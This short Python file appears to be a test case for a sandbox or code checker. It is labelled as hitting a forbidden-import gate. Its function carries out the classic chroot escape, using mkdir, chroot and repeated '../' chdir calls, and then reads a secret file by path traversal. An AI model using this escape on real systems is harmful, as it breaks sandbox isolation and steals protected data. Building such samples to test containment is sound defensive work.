# Climbs out of a changed root, the classic way.
# gate: forbidden_import
# alone: raised
import os

def revise_state(s):
    errors = []
    for step in (lambda: os.mkdir("sub"), lambda: os.chroot("sub"), lambda: os.chdir("../../../../.."),
                 lambda: os.chroot(".")):
        try:
            step()
        except OSError as error:
            errors.append(error)
    return list(open("../../../../../../.@SECRET@", "rb").read())
